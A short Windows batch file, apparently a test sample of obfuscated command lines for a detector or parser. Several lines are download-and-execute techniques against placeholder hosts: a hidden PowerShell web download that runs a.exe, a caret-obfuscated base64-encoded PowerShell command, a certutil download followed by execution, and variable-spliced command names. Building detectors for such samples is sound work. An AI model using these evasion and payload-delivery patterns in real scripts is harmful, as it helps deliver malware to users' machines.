@echo off
set x=pow&& set y=ershell
call %x%%y% -w hidden -c "iwr http://a -OutFile %TEMP%\a.exe; Start-Process %TEMP%\a.exe"
p^o^w^e^r^shell -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA >nul 2>&1
if exist "C:\x y\z.exe" (del /q "C:\x y\z.exe") else (start "" /b curl -o q http://q | more)
for /f "tokens=*" %%i in ('curl http://z') do set R=%%i
rem curl http://no
:: also no
%COMSPEC% /c "start /b node x.js"
certutil -urlcache -split -f http://u c.exe && c.exe
set z=abcdef
%z:~0,1%%z:~2,1% hello
echo %USERNAME% > %APPDATA%\b.txt
if "%1"=="x" goto end
cmd /v:on /c "set a=ca&&!a!lc"
